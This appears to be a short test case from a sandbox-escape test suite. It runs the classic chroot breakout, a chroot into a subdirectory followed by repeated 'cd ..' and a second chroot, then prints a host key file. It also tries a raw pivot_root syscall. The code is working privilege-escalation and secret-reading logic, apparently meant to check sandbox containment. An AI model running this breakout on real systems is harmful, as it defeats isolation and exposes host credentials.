"""Escape from chroot, with chroot.

category: privilege
ends: ok
"""

os.makedirs("jail", exist_ok=True)


def escape():
    os.chroot("jail")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    print(open(host.key).read())


tried("chroot", escape)
tried("pivot_root", lambda: call(155, b".", b"jail"))
